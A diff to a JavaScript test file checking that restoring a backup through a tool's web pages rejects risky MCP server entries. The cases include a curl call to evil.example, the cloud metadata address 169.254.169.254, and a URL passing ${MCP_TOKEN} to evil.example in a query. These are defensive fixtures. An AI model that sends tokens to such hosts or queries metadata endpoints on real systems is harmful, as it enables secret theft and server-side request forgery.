@@ -114,6 +114,7 @@ test('a backup holds the file without its secrets, and a restore brings it back'
 test.each([
   ['a command', { command: 'curl', args: ['https://evil.example'] }],
   ['another argument of a known command', { command: 'node', args: ['evil.js'], enabled: false }],
+  ['an address', { url: 'http://169.254.169.254/mcp' }],
   ['an address that gets a header', { url: 'https://evil.example', headers: { 'X-A': 'a' } }],
   ['an address with a query', { url: 'https://evil.example/?key=${MCP_TOKEN}' }],
 ])('a restore on the pages does not bring %s', async (_, brought) => {
@@ -124,15 +125,4 @@ test.each([
   expect(response.status).toBe(400);
   expect(await response.text()).toContain('npx knowhow restore');
   expect(await readFile(join(server.folder, path), 'utf8')).toContain('good.js');
-});
-
-test('a restore on the pages may bring a server that gets nothing of ours', async () => {
-  const admin = await start({ mcpServers: {} });
-  const brought = { mcpServers: { open: { ...harmless, enabled: false } } };
-  await importBackup(
-    admin,
-    zipOf({ 'contents/config/mcp.json': brought }),
-    '?only=config/mcp.json',
-  );
-  expect(await readFile(join(server.folder, path), 'utf8')).toContain('example.org');
 });
